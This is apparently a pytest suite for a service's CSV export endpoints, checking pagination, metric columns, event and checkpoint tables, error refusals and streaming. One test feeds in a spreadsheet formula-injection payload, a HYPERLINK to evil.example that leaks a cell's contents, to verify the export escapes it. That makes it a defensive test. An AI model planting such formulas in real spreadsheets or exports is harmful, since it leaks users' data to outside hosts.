"""Tables as CSV: whole lists and series, as pandas and spreadsheets read them."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pandas
import pytest

from api_tests.support.fake_agent import FakeAgent
from api_tests.support.problems import problem_of
from api_tests.support.runs import Run
from api_tests.support.server_context import Clock, server_context
from api_tests.support.threaded_server import ThreadedServer
from service.api.csv_exports import MOST_NAMED, Parts, Table
from service.contract.flat_rows import CHECKPOINT_COLUMNS, EVENT_COLUMNS, JOB_COLUMNS
from service.store.engine import Database

JOBS, METRICS = "/exports/jobs.csv", "/exports/metrics.csv"


@pytest.fixture
def of_database(database: Database, tmp_path: Path) -> Iterator[FakeAgent]:
    server = ThreadedServer(server_context(database, tmp_path, Clock()))
    with FakeAgent(server) as agent:
        yield agent
    server.stop()


def test_all_jobs_of_a_filter_are_rows_however_many_pages_they_are(
    of_database: FakeAgent, monkeypatch: pytest.MonkeyPatch
) -> None:
    agent = of_database
    label = {"exported": agent.id}
    ids = [agent.submit(name=f"job {n}", labels=label)["id"] for n in range(5)]
    agent.submit(name="another")
    monkeypatch.setattr("service.api.exports._PAGE", 2)
    for order, expected in (("created_at", ids), ("-created_at", ids[::-1]), ("priority", ids)):
        query = {"label": f"exported:{agent.id}", "order_by": order}
        table = _table(agent.http, JOBS, **query)
        assert [row["id"] for row in table] == expected
    assert list(table[0])[: len(JOB_COLUMNS)] == list(JOB_COLUMNS)
    row = table[0]
    assert (row["name"], row["label.exported"]) == ("job 0", agent.id)
    assert (row["param.batch_size"], row["state"], row["finished_at"]) == ("32", "queued", "")


def test_metrics_of_several_jobs_are_a_row_for_each_step_and_no_point_is_left_out(
    of_database: FakeAgent,
) -> None:
    agent = of_database
    first = _measured(agent, {20: {"loss": 0.1 + 0.2}, 40: {"loss": 1e-300, "top1_error": 0.5}})
    second = _measured(agent, {20: {"loss": -2.5}})
    frame = pandas.read_csv(_file(agent.http, METRICS, jobs=f"{first},{second}"))
    assert list(frame) == ["job_id", "job", "step", "time", "loss", "top1_error"]
    assert frame["loss"].tolist() == [0.1 + 0.2, 1e-300, -2.5]
    assert list(zip(frame["job_id"], frame["step"], strict=True)) == [
        (first, 20),
        (first, 40),
        (second, 20),
    ]
    assert frame["top1_error"].isna().tolist() == [True, False, True]
    assert pandas.to_datetime(frame["time"], format="ISO8601").dt.tz is not None
    chosen = _table(agent.http, METRICS, jobs=first, names="top1_error", since_step="30")
    assert [(row["step"], row["top1_error"]) for row in chosen] == [("40", "0.5")]


def test_a_users_text_is_no_formula_in_any_table(http: httpx.Client, agent: FakeAgent) -> None:
    formula = '=HYPERLINK("http://evil.example?"&A1,"see")'
    agent.submit(name=formula, labels={"run": agent.id, "by": "@SUM(1)"})
    row = _table(http, JOBS, label=f"run:{agent.id}")[0]
    assert (row["name"], row["label.by"]) == (f"'{formula}", "'@SUM(1)")


def test_events_and_checkpoints_are_tables_too(http: httpx.Client, run: Run) -> None:
    events = _table(http, f"/exports/jobs/{run.job_id}/events.csv")
    listed = http.get(f"/jobs/{run.job_id}/events").json()["data"]
    assert list(events[0]) == list(EVENT_COLUMNS)
    assert [(row["number"], row["message"]) for row in events] == [
        (str(event["number"]), event["message"]) for event in listed
    ]
    later = _table(http, f"/exports/jobs/{run.job_id}/events.csv", after=events[0]["number"])
    assert later == events[1:]
    kept = _table(http, "/exports/checkpoints.csv", job=run.job_id, order_by="metrics.top1_error")
    assert list(kept[0]) == [*CHECKPOINT_COLUMNS, "metrics.top1_error"]
    assert [row["metrics.top1_error"] for row in kept] == ["0.1", "0.2", "0.3"]


def test_a_table_without_rows_has_its_columns(http: httpx.Client) -> None:
    answer = http.get(JOBS, params={"name": "nobody has this name"})
    assert answer.text == ",".join(JOB_COLUMNS) + "\n"
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="jobs.csv"'


@pytest.mark.parametrize(
    ("path", "query", "status", "code"),
    [
        (METRICS, {"jobs": "job_nobody"}, 404, "no_such_job"),
        (METRICS, {}, 422, "invalid"),
        (METRICS, {"jobs": ",".join(f"j{n}" for n in range(101))}, 422, "invalid"),
        ("/exports/jobs/job_nobody/events.csv", {}, 404, "no_such_job"),
        (JOBS, {"order_by": "colour"}, 422, "invalid"),
        (JOBS, {"limit": "3"}, 422, "invalid"),
    ],
)
def test_what_cannot_be_exported_is_refused_before_a_line_is_sent(
    http: httpx.Client, path: str, query: dict[str, str], status: int, code: str
) -> None:
    problem_of(http.get(path, params=query), status, code)


def test_a_head_of_a_table_reads_no_rows(http: httpx.Client, agent: FakeAgent) -> None:
    agent.submit()
    answer = http.head(JOBS)
    assert (answer.status_code, answer.content) == (200, b"")


def test_rows_are_read_as_they_are_sent() -> None:
    reads: list[int] = []

    def parts() -> Parts:
        for start in range(0, 10_000, 500):
            reads.append(start)
            yield [{"id": number} for number in range(start, start + 500)]

    texts = Table("many", ["id"], parts).texts()
    assert next(texts) == "id\n"
    assert reads == []
    assert next(texts).count("\n") == 500
    assert reads == [0]
    assert sum(text.count("\n") for text in texts) == 9_500


def test_values_of_more_names_than_a_table_has_columns_are_in_one_column() -> None:
    rows = [{"id": n, f"label.{n:05d}": f"v{n}"} for n in range(MOST_NAMED + 2)]
    text = "".join(Table("jobs", ["id"], lambda: iter([rows]), complete=False).texts())
    table = list(csv.DictReader(io.StringIO(text)))
    assert len(table[0]) == 1 + MOST_NAMED + 1
    assert table[0]["label.00000"] == "v0"
    assert table[-1]["other"] == '{"label.01001": "v1001"}'


def _measured(agent: FakeAgent, metrics: dict[int, dict[str, float]]) -> str:
    agent.submit()
    claim = agent.claim()
    for step, measured in metrics.items():
        body = {"phase": "train", "step": step, "total_steps": 100, "metrics": measured}
        agent.beat(claim, ("progress", body))
    agent.report(claim)
    return str(claim["job_id"])


def _file(http: httpx.Client, path: str, **query: str) -> io.StringIO:
    answer = http.get(path, params=query)
    assert answer.status_code == 200, answer.text
    return io.StringIO(answer.text)


def _table(http: httpx.Client, path: str, **query: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(_file(http, path, **query)))
